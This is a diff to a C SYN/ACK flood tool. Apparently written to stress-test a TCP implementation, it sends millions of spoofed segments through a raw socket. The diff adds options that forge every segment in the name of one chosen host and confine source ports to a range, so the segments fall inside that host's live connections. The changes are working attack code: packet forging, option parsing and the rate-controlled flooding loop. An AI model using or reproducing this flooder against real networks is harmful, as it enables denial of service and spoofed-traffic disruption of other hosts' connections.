@@ -2,12 +2,15 @@
 /*
  * flood.c - SYNs or ACKs by the million from addresses that do not exist, as an attacker sends them
  *
- * usage: flood syn|ack ADDRESS PORT COUNT RATE [SEED]
+ * usage: flood [-a SOURCE] [-p FIRST-LAST] syn|ack ADDRESS PORT COUNT RATE [SEED]
  *
  * Sends COUNT segments to ADDRESS and PORT, RATE a second (0: as fast as they can be made). Source addresses
  * (from 11.0.0.0 to 126.255.255.255), source ports, sequence numbers, and for ack acknowledgement numbers are
  * random: nearly every segment is of another connection. The same SEED gives the same segments. A SYN has
  * the options that hosts use, so that answering it is as much work as answering a real one.
+ *
+ * -a forges all of them in the name of one host, -p with source ports of this range: where that host has connections
+ * with these ports, the segments are in the middle of them.
  *
  * At the end it prints what was sent. The kernel may lose segments behind the socket: what has arrived, the
  * receiver must say.
@@ -47,6 +50,9 @@ struct flood {
 	bool is_syn;
 	struct sockaddr_in to;
 	uint16_t port;
+	uint32_t source;	/* 0: a random one */
+	uint64_t first_port;
+	uint64_t last_port;
 	uint64_t count;
 	uint64_t rate;
 	uint64_t seed;
@@ -112,11 +118,12 @@ static void vary(const struct flood *flood, uint8_t *packet, uint64_t *random)
 {
 	uint8_t *tcp = packet + IP_HEADER;
 	size_t length = packet_length(flood) - IP_HEADER;
-	uint32_t first = 11 + random_below(random, 116);
+	uint32_t first = 11 + random_below(random, 116), below = random_next(random) >> 8;
+	uint32_t ports = (uint32_t)(flood->last_port - flood->first_port + 1);
 	uint32_t sum;
 
-	put32(packet + 12, first << 24 | random_next(random) >> 8);
-	put16(tcp, 1024 + random_below(random, 64512));
+	put32(packet + 12, flood->source ? flood->source : first << 24 | below);
+	put16(tcp, (uint32_t)flood->first_port + random_below(random, ports));
 	put32(tcp + 4, random_next(random));
 	if (!flood->is_syn)
 		put32(tcp + 8, random_next(random));
@@ -197,21 +204,55 @@ static bool number(const char *text, uint64_t most, uint64_t *value)
 	return *text >= '0' && *text <= '9' && *end == '\0' && errno == 0 && *value <= most;
 }
 
+/** port_range() - two ports with a "-" between */
+static bool port_range(char *text, uint64_t *first, uint64_t *last)
+{
+	char *dash = strchr(text, '-');
+
+	if (!dash)
+		return false;
+	*dash = '\0';
+	return number(text, 65535, first) && number(dash + 1, 65535, last) && *first <= *last;
+}
+
+static bool parse_options(int argc, char *argv[], struct flood *flood)
+{
+	struct in_addr source;
+	int option;
+
+	while ((option = getopt(argc, argv, "a:p:")) != -1) {
+		if (option == 'a' && inet_pton(AF_INET, optarg, &source) == 1)
+			flood->source = ntohl(source.s_addr);
+		else if (option != 'p' || !port_range(optarg, &flood->first_port, &flood->last_port))
+			return false;
+	}
+	return true;
+}
+
 static bool parse(int argc, char *argv[], struct flood *flood)
 {
 	uint64_t port;
 
-	*flood = (struct flood){ .to = { .sin_family = AF_INET }, .seed = (uint64_t)clock_now() };
-	if (argc < 6 || argc > 7)
+	*flood = (struct flood){
+		.to = { .sin_family = AF_INET },
+		.first_port = 1024,
+		.last_port = 65535,
+		.seed = (uint64_t)clock_now(),
+	};
+	if (!parse_options(argc, argv, flood))
 		return false;
-	flood->is_syn = strcmp(argv[1], "syn") == 0;
-	if (!flood->is_syn && strcmp(argv[1], "ack") != 0)
+	argc -= optind;
+	argv += optind;
+	if (argc < 5 || argc > 6)
 		return false;
-	if (inet_pton(AF_INET, argv[2], &flood->to.sin_addr) != 1 || !number(argv[3], 65535, &port))
+	flood->is_syn = strcmp(argv[0], "syn") == 0;
+	if (!flood->is_syn && strcmp(argv[0], "ack") != 0)
+		return false;
+	if (inet_pton(AF_INET, argv[1], &flood->to.sin_addr) != 1 || !number(argv[2], 65535, &port))
 		return false;
 	flood->port = (uint16_t)port;
-	return number(argv[4], UINT32_MAX, &flood->count) && number(argv[5], UINT32_MAX, &flood->rate) &&
-	       (argc == 6 || number(argv[6], UINT64_MAX, &flood->seed));
+	return number(argv[3], UINT32_MAX, &flood->count) && number(argv[4], UINT32_MAX, &flood->rate) &&
+	       (argc == 5 || number(argv[5], UINT64_MAX, &flood->seed));
 }
 
 int main(int argc, char *argv[])
@@ -219,7 +260,7 @@ int main(int argc, char *argv[])
 	struct flood flood;
 
 	if (!parse(argc, argv, &flood)) {
-		fprintf(stderr, "usage: flood syn|ack ADDRESS PORT COUNT RATE [SEED]\n");
+		fprintf(stderr, "usage: flood [-a SOURCE] [-p FIRST-LAST] syn|ack ADDRESS PORT COUNT RATE [SEED]\n");
 		return 2;
 	}
 	flood.fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
